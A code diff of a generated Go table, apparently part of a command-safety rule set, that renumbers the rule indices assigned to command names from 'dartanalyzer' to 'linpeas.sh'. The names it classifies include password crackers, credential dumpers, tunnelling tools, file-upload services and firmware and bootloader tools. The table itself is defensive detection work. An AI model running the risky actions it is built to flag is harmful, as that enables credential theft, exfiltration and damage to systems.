-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "dartanalyzer",
@@ -10680,7 +10745,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dash",
 				Program: 4,
-				Rules:   []uint16{319, 320, 365, 366},
+				Rules:   []uint16{322, 323, 368, 369},
 			},
 			nameEntry{
 				Name:    "dashlane",
@@ -10700,7 +10765,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "date",
 				Program: 9,
-				Rules:   []uint16{371},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "db-migrate",
@@ -10752,12 +10817,12 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "declare",
-				Rules: []uint16{221, 354, 398, 402},
+				Rules: []uint16{221, 357, 401, 405},
 			},
 			nameEntry{
 				Name:    "defaults",
 				Program: 64,
-				Rules:   []uint16{385},
+				Rules:   []uint16{388},
 			},
 			nameEntry{
 				Name:    "del",
@@ -10774,12 +10839,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "deluser",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "deno",
 				Program: 39,
-				Rules:   []uint16{106, 107, 303, 314},
+				Rules:   []uint16{106, 107, 306, 317},
 			},
 			nameEntry{
 				Name:    "depcheck",
@@ -10818,7 +10883,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "devin",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "devspace",
@@ -10828,7 +10893,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "devtunnel",
 				Program: -1,
-				Rules:   []uint16{300},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "df",
@@ -10854,12 +10919,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dig",
 				Program: 55,
-				Rules:   []uint16{293},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "dir",
 				Program: 7,
-				Rules:   []uint16{15, 343},
+				Rules:   []uint16{15, 346},
 			},
 			nameEntry{
 				Name:    "directus",
@@ -10869,7 +10934,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "direnv",
 				Program: 64,
-				Rules:   []uint16{332},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name: "dirname",
@@ -10932,17 +10997,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dnf",
 				Program: 44,
-				Rules:   []uint16{362},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "doas",
 				Program: 64,
-				Rules:   []uint16{334},
+				Rules:   []uint16{337},
 			},
 			nameEntry{
 				Name:    "docker",
 				Program: 62,
-				Rules:   []uint16{39, 40, 46, 175, 176, 177, 179, 180, 181, 182, 183, 184, 191, 194, 305},
+				Rules:   []uint16{39, 40, 46, 175, 176, 177, 179, 180, 181, 182, 183, 184, 191, 194, 308},
 			},
 			nameEntry{
 				Name:    "docker-compose",
@@ -10957,7 +11022,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "doctl",
 				Program: 61,
-				Rules:   []uint16{18, 30, 40, 150, 199, 306, 364},
+				Rules:   []uint16{18, 30, 40, 150, 199, 309, 367},
 			},
 			nameEntry{
 				Name:    "doctrine",
@@ -10976,7 +11041,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "doggo",
 				Program: 55,
-				Rules:   []uint16{293},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "dogshell",
@@ -11018,7 +11083,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dotnet",
 				Program: 34,
-				Rules:   []uint16{109, 113, 303, 304},
+				Rules:   []uint16{109, 113, 306, 307},
 			},
 			nameEntry{
 				Name:    "dotnet-ef",
@@ -11028,12 +11093,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dpkg",
 				Program: 44,
-				Rules:   []uint16{314, 362, 386},
+				Rules:   []uint16{317, 365, 389},
 			},
 			nameEntry{
 				Name:    "dracut",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "draft",
@@ -11052,7 +11117,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "drill",
 				Program: 55,
-				Rules:   []uint16{63, 293},
+				Rules:   []uint16{63, 296},
 			},
 			nameEntry{
 				Name:    "drizzle-kit",
@@ -11062,12 +11127,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "droid",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "dropbox",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "dropdb",
@@ -11092,12 +11157,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dscl",
 				Program: -1,
-				Rules:   []uint16{337, 385},
+				Rules:   []uint16{340, 388},
 			},
 			nameEntry{
 				Name:    "dseditgroup",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "dsh",
@@ -11158,7 +11223,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dweb",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "dyff",
@@ -11214,7 +11279,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "efibootmgr",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "egrep",
@@ -11278,11 +11343,11 @@ var shipped = Set{
 			nameEntry{
 				Name:    "emerge",
 				Program: 44,
-				Rules:   []uint16{362, 386},
+				Rules:   []uint16{365, 389},
 			},
 			nameEntry{
 				Name:  "enable",
-				Rules: []uint16{384},
+				Rules: []uint16{387},
 			},
 			nameEntry{
 				Name:    "encore",
@@ -11305,7 +11370,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "env",
 				Program: 2,
-				Rules:   []uint16{354, 398, 399, 402},
+				Rules:   []uint16{357, 401, 402, 405},
 			},
 			nameEntry{
 				Name:    "env0",
@@ -11356,7 +11421,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "et",
 				Program: -1,
-				Rules:   []uint16{344},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "etcdctl",
@@ -11370,7 +11435,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ettercap",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "eval",
@@ -11393,7 +11458,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "exa",
 				Program: 7,
-				Rules:   []uint16{343},
+				Rules:   []uint16{346},
 			},
 			nameEntry{
 				Name:    "exec",
@@ -11425,7 +11490,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "export",
-				Rules: []uint16{221, 354, 398, 402},
+				Rules: []uint16{221, 357, 401, 405},
 			},
 			nameEntry{
 				Name:    "expr",
@@ -11434,7 +11499,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "extlinux",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "eyaml",
@@ -11444,7 +11509,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "eza",
 				Program: 7,
-				Rules:   []uint16{343},
+				Rules:   []uint16{346},
 			},
 			nameEntry{
 				Name:    "fab",
@@ -11484,12 +11549,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fcrontab",
 				Program: -1,
-				Rules:   []uint16{330},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "fd",
 				Program: 16,
-				Rules:   []uint16{343},
+				Rules:   []uint16{346},
 			},
 			nameEntry{
 				Name:    "fdfind",
@@ -11511,12 +11576,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ffsend",
 				Program: -1,
-				Rules:   []uint16{299, 308},
+				Rules:   []uint16{302, 311},
 			},
 			nameEntry{
 				Name:    "ffuf",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name: "fg",
@@ -11536,7 +11601,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "find",
 				Program: 16,
-				Rules:   []uint16{50, 343},
+				Rules:   []uint16{50, 346},
 			},
 			nameEntry{
 				Name:    "findmnt",
@@ -11563,7 +11628,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "firefox-send",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "firejail",
@@ -11572,17 +11637,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "firewall-cmd",
 				Program: 64,
-				Rules:   []uint16{348},
+				Rules:   []uint16{351},
 			},
 			nameEntry{
 				Name:    "fish",
 				Program: 4,
-				Rules:   []uint16{319, 320, 365, 366},
+				Rules:   []uint16{322, 323, 368, 369},
 			},
 			nameEntry{
 				Name:    "fkill",
 				Program: 63,
-				Rules:   []uint16{345},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "flake8",
@@ -11596,7 +11661,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flashrom",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "flask",
@@ -11610,12 +11675,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flatpak",
 				Program: 44,
-				Rules:   []uint16{362},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "flit",
 				Program: 32,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "flock",
@@ -11624,7 +11689,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "flutter",
 				Program: 32,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "flux",
@@ -11661,27 +11726,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "foreman",
 				Program: 45,
-				Rules:   []uint16{378},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "forever",
 				Program: 45,
-				Rules:   []uint16{378},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "forfiles",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "forge",
 				Program: 66,
-				Rules:   []uint16{156, 387},
+				Rules:   []uint16{156, 390},
 			},
 			nameEntry{
 				Name:    "forkbomb",
 				Program: -1,
-				Rules:   []uint16{356},
+				Rules:   []uint16{359},
 			},
 			nameEntry{
 				Name:    "format",
@@ -11701,12 +11766,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "fossil",
 				Program: 50,
-				Rules:   []uint16{275},
+				Rules:   []uint16{278},
 			},
 			nameEntry{
 				Name:    "fpaste",
 				Program: -1,
-				Rules:   []uint16{299},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "fpc",
@@ -11723,7 +11788,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "frpc",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "fsck",
@@ -11742,22 +11807,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ftp",
 				Program: 56,
-				Rules:   []uint16{308, 309},
+				Rules:   []uint16{311, 312},
 			},
 			nameEntry{
 				Name:    "fuser",
 				Program: 63,
-				Rules:   []uint16{345},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "fwupdmgr",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "fwupdtool",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "fx",
@@ -11799,12 +11864,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gci",
 				Program: -1,
-				Rules:   []uint16{15, 343},
+				Rules:   []uint16{15, 346},
 			},
 			nameEntry{
 				Name:    "gcloud",
 				Program: 61,
-				Rules:   []uint16{18, 40, 132, 141, 142, 145, 146, 190, 192, 199, 298, 306, 308},
+				Rules:   []uint16{18, 40, 132, 141, 142, 145, 146, 190, 192, 199, 301, 309, 311},
 			},
 			nameEntry{
 				Name:    "gcloud-components",
@@ -11818,12 +11883,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gcrane",
 				Program: -1,
-				Rules:   []uint16{306},
+				Rules:   []uint16{309},
 			},
 			nameEntry{
 				Name:    "gdb",
 				Program: 63,
-				Rules:   []uint16{397},
+				Rules:   []uint16{400},
 			},
 			nameEntry{
 				Name:    "gdisk",
@@ -11833,7 +11898,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gdrive",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "gedit",
@@ -11847,12 +11912,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gem",
 				Program: 43,
-				Rules:   []uint16{40, 303, 304, 314, 315, 324},
+				Rules:   []uint16{40, 306, 307, 317, 318, 327},
 			},
 			nameEntry{
 				Name:    "gemini",
 				Program: 66,
-				Rules:   []uint16{387, 389},
+				Rules:   []uint16{390, 392},
 			},
 			nameEntry{
 				Name:    "gemini-cli",
@@ -11897,7 +11962,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gh",
 				Program: 51,
-				Rules:   []uint16{18, 19, 40, 160, 161, 162, 163, 294, 295, 296, 308, 364},
+				Rules:   []uint16{18, 19, 40, 160, 161, 162, 163, 297, 298, 299, 311, 367},
 			},
 			nameEntry{
 				Name:    "gh-ost",
@@ -11937,12 +12002,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gist",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "git",
 				Program: 49,
-				Rules:   []uint16{26, 243, 244, 245, 246, 248, 249, 250, 251, 252, 253, 254, 255, 256, 257, 258, 259, 260, 261, 262, 263, 264, 265, 266, 267, 268, 270, 271, 272, 273, 274, 277, 278, 279, 280, 281, 282, 283, 284},
+				Rules:   []uint16{26, 243, 244, 245, 246, 248, 249, 250, 251, 252, 253, 254, 255, 256, 257, 258, 259, 260, 261, 262, 263, 264, 265, 266, 267, 268, 269, 271, 272, 273, 274, 275, 276, 277, 280, 281, 282, 283, 284, 285, 286, 287},
 			},
 			nameEntry{
 				Name:    "git-crypt",
@@ -11952,12 +12017,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "git-filter-branch",
 				Program: -1,
-				Rules:   []uint16{269},
+				Rules:   []uint16{270},
 			},
 			nameEntry{
 				Name:    "git-filter-repo",
 				Program: 50,
-				Rules:   []uint16{269},
+				Rules:   []uint16{270},
 			},
 			nameEntry{
 				Name:    "git-grep",
@@ -11987,7 +12052,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "glab",
 				Program: 51,
-				Rules:   []uint16{18, 19, 40, 160, 161, 162, 294, 295, 296, 308, 364},
+				Rules:   []uint16{18, 19, 40, 160, 161, 162, 297, 298, 299, 311, 367},
 			},
 			nameEntry{
 				Name:    "gln",
@@ -12010,17 +12075,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gnome-screenshot",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{305},
 			},
 			nameEntry{
 				Name:    "go",
 				Program: 30,
-				Rules:   []uint16{314, 324},
+				Rules:   []uint16{317, 327},
 			},
 			nameEntry{
 				Name:    "gobuster",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "goenv",
@@ -12053,7 +12118,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "goose",
 				Program: 66,
-				Rules:   []uint16{109, 110, 112, 387, 389},
+				Rules:   []uint16{109, 110, 112, 390, 392},
 			},
 			nameEntry{
 				Name:    "gopass",
@@ -12067,7 +12132,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "goreleaser",
 				Program: 32,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "gosec",
@@ -12089,7 +12154,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gpasswd",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "gpg",
@@ -12120,12 +12185,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gradle",
 				Program: 33,
-				Rules:   []uint16{113, 303},
+				Rules:   []uint16{113, 306},
 			},
 			nameEntry{
 				Name:    "gradlew",
 				Program: 33,
-				Rules:   []uint16{113, 303},
+				Rules:   []uint16{113, 306},
 			},
 			nameEntry{
 				Name:    "graphite",
@@ -12157,7 +12222,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "grok",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "groovy",
@@ -12170,17 +12235,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "groupadd",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "groupdel",
 				Program: 64,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "groupmod",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{340},
 			},
 			nameEntry{
 				Name:    "groups",
@@ -12199,27 +12264,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "grub-install",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "grub-mkconfig",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "grub2-install",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "grub2-mkconfig",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "grubby",
 				Program: -1,
-				Rules:   []uint16{370},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "grunt",
@@ -12244,12 +12309,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gsudo",
 				Program: -1,
-				Rules:   []uint16{367},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "gsutil",
 				Program: 61,
-				Rules:   []uint16{141, 142, 146, 298, 308, 310},
+				Rules:   []uint16{141, 142, 146, 301, 311, 313},
 			},
 			nameEntry{
 				Name:    "gt",
@@ -12258,7 +12323,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "gtar",
 				Program: 24,
-				Rules:   []uint16{41, 239, 325},
+				Rules:   []uint16{41, 239, 328},
 			},
 			nameEntry{
 				Name:    "gtest",
@@ -12299,7 +12364,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "halt",
 				Program: 64,
-				Rules:   []uint16{346, 347},
+				Rules:   []uint16{349, 350},
 			},
 			nameEntry{
 				Name: "hash",
@@ -12307,7 +12372,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hashcat",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "hashdump",
@@ -12326,12 +12391,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hatch",
 				Program: 32,
-				Rules:   []uint16{106, 303},
+				Rules:   []uint16{106, 306},
 			},
 			nameEntry{
 				Name:    "hcloud",
 				Program: 61,
-				Rules:   []uint16{18, 150, 199, 364},
+				Rules:   []uint16{18, 150, 199, 367},
 			},
 			nameEntry{
 				Name:    "hdiutil",
@@ -12353,7 +12418,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "helm",
 				Program: 61,
-				Rules:   []uint16{30, 39, 40, 132, 174, 303, 314},
+				Rules:   []uint16{30, 39, 40, 132, 174, 306, 317},
 			},
 			nameEntry{
 				Name:    "helmfile",
@@ -12393,12 +12458,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hg",
 				Program: 50,
-				Rules:   []uint16{275, 276},
+				Rules:   []uint16{278, 279},
 			},
 			nameEntry{
 				Name:    "hh.exe",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:  "history",
@@ -12423,7 +12488,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "host",
 				Program: 55,
-				Rules:   []uint16{293},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "hostname",
@@ -12432,7 +12497,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hostnamectl",
 				Program: 64,
-				Rules:   []uint16{350},
+				Rules:   []uint16{353},
 			},
 			nameEntry{
 				Name:    "htmlq",
@@ -12445,12 +12510,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "http",
 				Program: 54,
-				Rules:   []uint16{310},
+				Rules:   []uint16{313},
 			},
 			nameEntry{
 				Name:    "http-server",
 				Program: 45,
-				Rules:   []uint16{311},
+				Rules:   []uint16{314},
 			},
 			nameEntry{
 				Name:    "httpd",
@@ -12471,7 +12536,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hub",
 				Program: 49,
-				Rules:   []uint16{160, 243, 245, 294, 295, 308},
+				Rules:   []uint16{160, 243, 245, 297, 298, 311},
 			},
 			nameEntry{
 				Name:    "huggingface-cli",
@@ -12493,7 +12558,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hwclock",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "hwinfo",
@@ -12506,7 +12571,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "hydra",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "hypercorn",
@@ -12550,12 +12615,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "iex",
 				Program: 45,
-				Rules:   []uint16{322},
+				Rules:   []uint16{325},
 			},
 			nameEntry{
 				Name:    "ifconfig",
 				Program: 55,
-				Rules:   []uint16{350},
+				Rules:   []uint16{353},
 			},
 			nameEntry{
 				Name:    "impacket-secretsdump",
@@ -12598,12 +12663,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "init",
 				Program: 64,
-				Rules:   []uint16{346},
+				Rules:   []uint16{349},
 			},
 			nameEntry{
 				Name:    "initctl",
 				Program: 64,
-				Rules:   []uint16{357},
+				Rules:   []uint16{360},
 			},
 			nameEntry{
 				Name:    "initdb",
@@ -12621,12 +12686,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "insmod",
 				Program: 64,
-				Rules:   []uint16{338},
+				Rules:   []uint16{341},
 			},
 			nameEntry{
 				Name:    "install",
 				Program: 17,
-				Rules:   []uint16{227, 336},
+				Rules:   []uint16{227, 339},
 			},
 			nameEntry{
 				Name:    "install_name_tool",
@@ -12635,7 +12700,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "installutil",
 				Program: -1,
-				Rules:   []uint16{321},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "inv",
@@ -12650,7 +12715,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "invoke-expression",
 				Program: -1,
-				Rules:   []uint16{322},
+				Rules:   []uint16{325},
 			},
 			nameEntry{
 				Name:    "inxi",
@@ -12671,12 +12736,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ip",
 				Program: 55,
-				Rules:   []uint16{350},
+				Rules:   []uint16{353},
 			},
 			nameEntry{
 				Name:    "ip6tables",
 				Program: 64,
-				Rules:   []uint16{348},
+				Rules:   []uint16{351},
 			},
 			nameEntry{
 				Name:    "iperf",
@@ -12689,12 +12754,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ipfs",
 				Program: -1,
-				Rules:   []uint16{308},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "iptables",
 				Program: 64,
-				Rules:   []uint16{348},
+				Rules:   []uint16{351},
 			},
 			nameEntry{
 				Name:    "ipython",
@@ -12720,7 +12785,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "iw",
 				Program: -1,
-				Rules:   []uint16{350},
+				Rules:   []uint16{353},
 			},
 			nameEntry{
 				Name:    "iwconfig",
@@ -12765,7 +12830,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jj",
 				Program: 50,
-				Rules:   []uint16{275, 276},
+				Rules:   []uint16{278, 279},
 			},
 			nameEntry{
 				Name: "jobs",
@@ -12773,7 +12838,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "john",
 				Program: -1,
-				Rules:   []uint16{43, 353},
+				Rules:   []uint16{43, 356},
 			},
 			nameEntry{
 				Name:    "join",
@@ -12799,7 +12864,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jsr",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "juju",
@@ -12876,7 +12941,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kdig",
 				Program: 55,
-				Rules:   []uint16{293},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "keepassxc-cli",
@@ -12891,12 +12956,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kexec",
 				Program: 64,
-				Rules:   []uint16{338, 367},
+				Rules:   []uint16{341, 370},
 			},
 			nameEntry{
 				Name:    "kextload",
 				Program: -1,
-				Rules:   []uint16{338, 385},
+				Rules:   []uint16{341, 388},
 			},
 			nameEntry{
 				Name:    "keychain",
@@ -12915,32 +12980,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "keytool",
 				Program: 64,
-				Rules:   []uint16{32, 363, 383},
+				Rules:   []uint16{32, 366, 386},
 			},
 			nameEntry{
 				Name:    "kill",
 				Program: 63,
-				Rules:   []uint16{339, 340, 341, 345, 396, 397},
+				Rules:   []uint16{342, 343, 344, 348, 399, 400},
 			},
 			nameEntry{
 				Name:    "kill-port",
 				Program: 63,
-				Rules:   []uint16{345},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "killall",
 				Program: 63,
-				Rules:   []uint16{339, 341, 342, 345, 375, 395, 397},
+				Rules:   []uint16{342, 344, 345, 348, 378, 398, 400},
 			},
 			nameEntry{
 				Name:    "killall5",
 				Program: -1,
-				Rules:   []uint16{339, 377},
+				Rules:   []uint16{342, 380},
 			},
 			nameEntry{
 				Name:    "kilo",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "kilocode",
@@ -12958,22 +13023,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kiro-cli",
 				Program: 66,
-				Rules:   []uint16{387},
+				Rules:   []uint16{390},
 			},
 			nameEntry{
 				Name:    "kitten",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "kitty",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "kldload",
 				Program: -1,
-				Rules:   []uint16{338},
+				Rules:   []uint16{341},
 			},
 			nameEntry{
 				Name:    "knex",
@@ -12992,7 +13057,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ko",
 				Program: -1,
-				Rules:   []uint16{305},
+				Rules:   []uint16{308},
 			},
 			nameEntry{
 				Name:    "kopia",
@@ -13024,7 +13089,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ksh",
 				Program: 4,
-				Rules:   []uint16{319, 320, 365, 366},
+				Rules:   []uint16{322, 323, 368, 369},
 			},
 			nameEntry{
 				Name:    "ktlint",
@@ -13038,7 +13103,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kubectl",
 				Program: 61,
-				Rules:   []uint16{18, 19, 22, 151, 164, 165, 166, 167, 168, 169, 170, 171, 172, 173, 314},
+				Rules:   []uint16{18, 19, 22, 151, 164, 165, 166, 167, 168, 169, 170, 171, 172, 173, 317},
 			},
 			nameEntry{
 				Name:    "kubectx",
@@ -13095,7 +13160,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "launchctl",
 				Program: 64,
-				Rules:   []uint16{17, 331, 342, 351, 385, 397},
+				Rules:   []uint16{17, 334, 345, 354, 388, 400},
 			},
 			nameEntry{
 				Name:    "lazydocker",
@@ -13132,7 +13197,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ldconfig",
 				Program: 64,
-				Rules:   []uint16{351},
+				Rules:   []uint16{354},
 			},
 			nameEntry{
 				Name:    "ldd",
@@ -13149,7 +13214,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lerna",
 				Program: 32,
-				Rules:   []uint16{303},
+				Rules:   []uint16{306},
 			},
 			nameEntry{
 				Name:    "less",
@@ -13165,7 +13230,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lftp",
 				Program: 56,
-				Rules:   []uint16{230, 308, 309},
+				Rules:   []uint16{230, 311, 312},
 			},
 			nameEntry{
 				Name:    "libsql",
@@ -13182,7 +13247,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ligolo",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{293},
 			},
 			nameEntry{
 				Name:    "limactl",
@@ -13211,7 +13276,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "linpeas.sh",
 				Program: -1,
-				Rules:   []uint16{353},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
